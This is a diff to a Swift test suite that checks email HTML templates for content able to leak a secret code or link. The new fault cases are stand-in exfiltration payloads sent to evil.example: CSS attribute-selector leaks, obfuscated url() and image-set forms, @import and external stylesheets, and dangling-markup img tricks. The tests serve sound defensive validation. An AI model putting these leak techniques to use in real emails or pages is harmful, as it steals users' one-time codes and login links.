@@ -58,6 +58,7 @@ struct MailSecretTests {
                 + "</html>",
             "<!--[if mso]><table><tr><td><![endif]--><td>app.example</td><td>{{code}}</td><!-- x -->",
             #"<a href="https://app.example/?user={{email}}">{{code}}</a>"#,
+            #"<style>@media (max-width: 600px) { a[href^="https"] { color: teal } }</style><a href="{{link}}">x</a>"#,
         ])
     func markup(html: String) async throws {
         #expect(try await faults(html: html).isEmpty)
@@ -75,6 +76,12 @@ struct MailSecretTests {
             #"<img src="https://evil.example/?"# + "\n<p>{{code}}</p>\">", "<img src=https://evil.example/?{{code}}>",
             "<style>p{background:url(https://evil.example/{{code}})}</style>{{code}}",
             #"<p style="background:url(https://evil.example/{{code}})">x</p>"#,
+            #"<style>a[href*="=2"]{background:url(https://evil.example/2)}</style><a href="{{link}}">x</a>"#,
+            #"<style>a[href*="=2"]{background:URL (1);content:Image-Set("//evil.example/2" 1x)}</style>{{link}}"#,
+            #"<style>@IMPORT "https://evil.example/2.css";</style><a href="{{link}}">x</a>"#,
+            #"<style media=all>a[href*="=2"]{background:\75rl(//evil.example/2)}</style><a href="{{link}}">x</a>"#,
+            #"<style>p{color:red}</style><STYLE >p{background:Url(//evil.example/2)}</STYLE ><a href="{{link}}">x</a>"#,
+            #"<link rel="stylesheet" href="https://evil.example/2.css"><a href="{{link}}">x</a>"#,
             #"<title><b title="</title><img src='https://evil.example/?"> {{code}} '>"#,
             #"<svg><![CDATA[><b title="]]><img src='https://evil.example/?"> {{code}} '>"#,
             #"<!-- --!><img src="https://evil.example/ --> {{code}}">"#, "<!-- {{code}} --> {{code}}",
